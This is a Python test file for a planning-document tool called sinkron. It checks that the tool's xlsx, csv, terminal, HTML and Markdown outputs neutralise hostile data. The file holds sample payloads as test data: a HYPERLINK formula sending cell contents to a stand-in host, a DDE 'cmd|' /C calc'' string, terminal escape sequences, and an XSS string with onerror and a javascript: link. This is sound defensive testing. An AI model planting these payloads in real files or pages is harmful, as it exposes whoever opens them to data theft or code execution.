"""Outputs never turn a data file into an attack on whoever opens them.

* A planted formula in an imported spreadsheet comes out inert in the xlsx and csv reports of
  ``sinkron check`` and in a bundle written back as xlsx (end to end through the command line).
* Control characters from the data cannot drive the terminal a report or ``sinkron read`` prints to.
* The HTML report escapes any text (property-tested: the page's markup is the same whatever the data).
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

pytest.importorskip("sinkron_spreadsheet", reason="sinkron-spreadsheet is not installed in this environment")

from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]
from reliability import corpus as c

import sinkron
from sinkron.align import Finding, Message, Report, Severity
from sinkron.align.metrics import CoverageRow, Metrics
from sinkron.builtins.report_csv import COLUMNS, neutralise, render_csv
from sinkron.builtins.report_html import render_html
from sinkron.builtins.report_text import render_text
from sinkron.cli import main
from sinkron.models import Provenance

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
TITLE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
PLAN_ID = "-2+3+cmd"


def planted_workbook(path: Path) -> Path:
    """A Renja sheet as an office would send it, with formulas planted as *text* in the title, id and a name."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Renja"
    ws.append([f"ID Dokumen : {PLAN_ID}"])
    ws.append([f"Judul : {TITLE}"])
    ws.append(["Periode : 2026"])
    ws.append(c.RENJA_HEADER)
    ws.append(["1.02.02.2.02.0001", NAME, "Jumlah Ibu Hamil", "100 Orang", "1.000.000"])
    ws.append(["1.02.02.2.02.0002", "+62 812 3456", "Jumlah Ibu Bersalin", "90 Orang", "2.500.000"])
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text, as a planted file would hold it (openpyxl would make '=…' a formula)
    wb.save(path)
    return path


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args))
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    output = result.stdout + result.stderr
    assert "Traceback" not in output
    return result.exit_code, output


def xlsx_strings(path: Path) -> list[str]:
    book = load_workbook(path)
    found: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula cell {cell.coordinate} in {path.name}"
                if isinstance(cell.value, str):
                    found.append(cell.value)
    return found


def test_the_planted_file_reads_with_the_text_intact(tmp_path: Path) -> None:
    bundle = sinkron.read(planted_workbook(tmp_path / "planted.xlsx"))
    plan = bundle.plans[0]
    assert (plan.id, plan.title) == (PLAN_ID, TITLE)
    assert [s.name for s in plan.sub_activities()] == [NAME, "+62 812 3456"]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_planted_formulas_come_out_inert_in_the_reports(tmp_path: Path, fmt: str) -> None:
    source = planted_workbook(tmp_path / "planted.xlsx")
    target = tmp_path / f"laporan.{fmt}"
    code, output = run("check", str(source), "--format", fmt, "--output", str(target), "--exit-zero")
    assert code == 0, output
    if fmt == "xlsx":
        cells = xlsx_strings(target)
    else:
        text = target.read_bytes().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert tuple(rows[0]) == COLUMNS
        cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert dangerous == []
    # The planted text is all there, only made inert: the path starts with the title, the subject with the id.
    assert any(cell.startswith("'" + TITLE) for cell in cells)
    assert any(cell.startswith("'" + PLAN_ID + "#") for cell in cells)
    assert any(NAME in cell for cell in cells)


def test_planted_formulas_come_out_inert_in_a_written_bundle(tmp_path: Path) -> None:
    source = planted_workbook(tmp_path / "planted.xlsx")
    target = tmp_path / "salinan.xlsx"
    code, output = run("convert", str(source), str(target))
    assert code == 0, output
    cells = xlsx_strings(target)
    assert [cell for cell in cells if cell.startswith(DANGEROUS)] == []
    assert "'" + NAME in cells and "'+62 812 3456" in cells
    assert sinkron.read(target).plans == sinkron.read(source).plans  # and the reader takes the apostrophe off


def finding(text: str, *, path: str | None = None) -> Finding:
    return Finding(
        rule="SKN104",
        severity=Severity.WARNING,
        subject=f"renja#{text}",
        path=path if path is not None else f"Renja › {text}",
        message=Message(f"Nama {text}", f"Name {text}"),
        fix=Message(text, text),
        evidence={"name": text},
        location=Provenance(source=text, sheet=text, row=3),
    )


@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\"';,|<>& aZ0")), max_size=20))
@settings(max_examples=40)
def test_no_csv_field_of_the_report_starts_a_formula(text: str) -> None:
    report = Report(findings=(finding(text, path=text),), rules_run=("SKN104",))
    rows = list(csv.reader(io.StringIO(render_csv(report), newline="")))
    assert len(rows) == 2 and len(rows[1]) == len(COLUMNS)
    assert not any(cell.startswith(DANGEROUS) for cell in rows[1])
    assert rows[1][3] == neutralise(text)  # written whole, one apostrophe at most in front


def test_csv_report_delimiters_and_encoding(tmp_path: Path) -> None:
    report = Report(findings=(finding("Pelayanan Ibu Hamil; Café"),), rules_run=("SKN104",))
    exporter = sinkron.PluginManager(load_entry_points=False).exporter_for(report, "csv")
    data = exporter.render(report, delimiter=";")
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1][5] == "Name Pelayanan Ibu Hamil; Café"
    with pytest.raises(sinkron.SinkronError, match="unknown csv delimiter"):
        exporter.render(report, delimiter="|")


# -- terminals -----------------------------------------------------------------------------------------
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m"


def test_the_text_report_never_prints_control_characters_from_the_data() -> None:
    report = Report(findings=(finding(ESCAPES),), rules_run=("SKN104",), sources=(ESCAPES,))
    for color in (False, True):
        text = render_text(report, color=color)
        data = text.replace("\x1b[0m", "")
        for code in ("1", "2", "31", "33", "36", "1;31", "1;33", "1;36"):
            data = data.replace(f"\x1b[{code}m", "")  # the report's own colours
        assert not any(ch in data for ch in "\x1b\x07\x9b"), repr(text)
        assert "\\x1b[2J\\x1b]0;pwned\\x07\\x9b31m" in text


def test_sinkron_read_and_check_print_escapes_not_control_characters(tmp_path: Path) -> None:
    rows = [["1.02.02.2.02.0001", f"Nama {ESCAPES} jahat", "Jumlah", "1 Orang", "1.000"]]
    path = tmp_path / "ctl.csv"
    path.write_text(c.csv_text([["Periode : 2024"], ["Judul : Renja " + ESCAPES], c.RENJA_HEADER, *rows]), "utf-8")
    for args in (("read", str(path), "--mapping", "renja"), ("check", str(path), "--mapping", "renja", "--exit-zero")):
        code, output = run(*args)
        assert code == 0, output
        assert not any(ch in output for ch in "\x1b\x07\x9b"), repr(output)
        assert "\\x1b[2J" in output
    xlsx = tmp_path / "r.xlsx"
    code, output = run(
        "check", str(path), "--mapping", "renja", "--format", "xlsx", "--output", str(xlsx), "--exit-zero"
    )
    assert code == 0, output
    assert any("\\x1b[2J" in cell for cell in xlsx_strings(xlsx))
    code, output = run("convert", str(path), str(tmp_path / "copy.xlsx"), "--mapping", "renja")
    assert code == 2 and "holds a control character" in output
    assert not (tmp_path / "copy.xlsx").exists()


# -- HTML ----------------------------------------------------------------------------------------------
class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(sorted(name for name, _ in attrs))))


def _markup(report: Report) -> list[tuple[str, tuple[str, ...]]]:
    parser = _Markup()
    parser.feed(render_html(report))
    return parser.tags


def _report(text: str) -> Report:
    coverage = CoverageRow(
        priority="PD", code=text, name=text, kind="daerah", programs=0, sub_activities=0, pagu=Decimal(0)
    )
    return Report(
        findings=(finding(text),),
        metrics=Metrics(priority_coverage=(coverage,)),
        rules_run=("SKN104",),
        sources=(text,),
    )


@given(st.text(alphabet=st.sampled_from(list("<>&\"'=/ ascriptimgonerrorhref:!-")), max_size=40))
@settings(max_examples=40)
def test_the_html_report_markup_does_not_depend_on_the_data(text: str) -> None:
    """Whatever the text, the page has the same elements and attributes as with plain text."""
    assert _markup(_report(text)) == _markup(_report("teks biasa"))


# -- the suggestions review sheet (csv) ----------------------------------------------------------------
def test_review_sheet_csv_is_inert_and_reads_back(tmp_path: Path) -> None:
    from sinkron.models import LinkKind
    from sinkron.suggest import Suggestion, TargetKind, read_review, write_review

    suggestion = Suggestion(
        source="-renja#1.02.0.00.0.00.01.0000/1.02.02.2.02.0001",
        target="=PN06",
        kind=LinkKind.TAGGED,
        target_kind=TargetKind.PRIORITY,
        score=0.8,
        source_name=NAME,
        target_name=TITLE,
    )
    path = write_review([suggestion], tmp_path / "tinjauan.csv")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    assert not any(cell.startswith(DANGEROUS) for row in rows for cell in row)
    assert "'" + NAME in rows[1] and "'" + TITLE in rows[1]
    decision = rows[0].index(next(h for h in rows[0] if "keputusan" in h.lower()))
    rows[1][decision] = "terima"
    edited = tmp_path / "diisi.csv"
    with edited.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    (link,) = read_review(edited).links
    assert (link.source, link.target) == (suggestion.source, suggestion.target)


# -- Markdown: one escaping for every writer (issue 25 item 8) -------------------------------------------------
#: A name that would be raw HTML, a javascript: link and an external image in a Markdown viewer.
MARKDOWN_ATTACK = "<img src=x onerror=alert(1)> [klik](javascript:alert(1)) ![p](http://contoh.invalid/p.png) a|b"


def assert_markdown_inert(text: str) -> None:
    """``text`` carries the attack only escaped: no tag, no link or image, no extra table cell."""
    assert re.search(r"<(?!br>)", text) is None, text  # no tag but the writers' own line breaks
    assert re.search(r"(?<!\\)\]\(", text) is None and "![" not in text, text  # no link, no image
    assert "&lt;img src=x onerror=alert(1)&gt;" in text and "\\[klik\\](javascript:alert(1))" in text
    assert "a\\|b" in text


def test_sinkron_diff_md_escapes_names(tmp_path: Path) -> None:
    old = c.renja_workbook(tmp_path / "lama.xlsx")
    renamed = [[c.RENJA_ROWS[0][0], MARKDOWN_ATTACK, *c.RENJA_ROWS[0][2:]], c.RENJA_ROWS[1]]
    new = c.renja_workbook(
        tmp_path / "baru.xlsx", rows=[*renamed, ["1.02.02.2.02.0003", MARKDOWN_ATTACK, "a", "1", "1"]]
    )
    code, output = run("diff", str(old), str(new), "--format", "md")
    assert code == 0, output
    assert_markdown_inert(output)


def test_the_table_reports_md_escape_every_cell() -> None:
    """Form 4, Form 5 and the matrix are Tables rendered by one Markdown writer: title, lines, headers, cells, notes."""
    from sinkron.bridge.tables import Column, RowStyle, Table, TableRow, TableSet
    from sinkron.builtins.table_exporters import render_tables_markdown

    table = Table(
        title=MARKDOWN_ATTACK,
        subtitle=(MARKDOWN_ATTACK,),
        columns=(Column(("NO",)), Column(("RPJMN", MARKDOWN_ATTACK))),
        rows=(
            TableRow(("1", MARKDOWN_ATTACK), style=RowStyle.GROUP),
            TableRow(("2", (MARKDOWN_ATTACK, MARKDOWN_ATTACK))),
            TableRow((MARKDOWN_ATTACK,), style=RowStyle.NOTE),
        ),
        notes=(MARKDOWN_ATTACK,),
    )
    text = render_tables_markdown(TableSet(title=MARKDOWN_ATTACK, tables=(table,), notes=(MARKDOWN_ATTACK,)))
    assert_markdown_inert(text)
    rows = [re.split(r"(?<!\\)\|", line)[1:-1] for line in text.splitlines() if line.startswith("|")]
    assert len(rows) == 5 and {len(cells) for cells in rows} == {2}  # the | in the data made no extra cell


def test_the_minutes_and_check_md_escape_the_same_way(tmp_path: Path) -> None:
    from sinkron.builtins.report_markdown import render_markdown

    report = Report(findings=(finding(MARKDOWN_ATTACK),), metrics=Metrics())
    assert_markdown_inert(render_markdown(report))


def test_one_markdown_escaping_function() -> None:
    """No module escapes Markdown by itself: every writer calls sinkron.safe_text.escape_markdown."""
    root = Path(sinkron.__file__).resolve().parents[2]
    sources = [*(root / "src" / "sinkron").rglob("*.py"), *(root / "plugins").glob("*/src/**/*.py")]
    own = [str(p) for p in sources if p.name != "safe_text.py" and 'replace("|"' in p.read_text(encoding="utf-8")]
    assert own == []


def test_review_sheet_xlsx_is_inert_and_reads_back(tmp_path: Path) -> None:
    """The one sheet planners are meant to edit: hostile names come out neutralised, and read back as they were."""
    from sinkron.models import LinkKind
    from sinkron.suggest import Suggestion, TargetKind, read_review, write_review

    suggestion = Suggestion(
        source="renja#1.02.0.00.0.00.01.0000/1.02.02.2.02.0001",
        target="PN06",
        kind=LinkKind.TAGGED,
        target_kind=TargetKind.PRIORITY,
        score=0.8,
        source_name=NAME,
        target_name="'=" + TITLE,  # an apostrophe of its own comes back too
        matched_terms=("-cmd", "+62"),
    )
    path = write_review([suggestion], tmp_path / "tinjauan.xlsx")
    cells = xlsx_strings(path)
    assert [cell for cell in cells if cell.startswith(DANGEROUS)] == []
    assert "'" + NAME in cells and "''=" + TITLE in cells and "'-cmd; +62" in cells
    book = load_workbook(path)
    sheet = book.active
    decision = next(cell.column for cell in sheet[1] if "keputusan" in str(cell.value).lower())
    sheet.cell(row=2, column=decision, value="terima")
    book.save(tmp_path / "diisi.xlsx")
    result = read_review(tmp_path / "diisi.xlsx")
    (link,) = result.links
    assert (link.source, link.target) == (suggestion.source, suggestion.target)
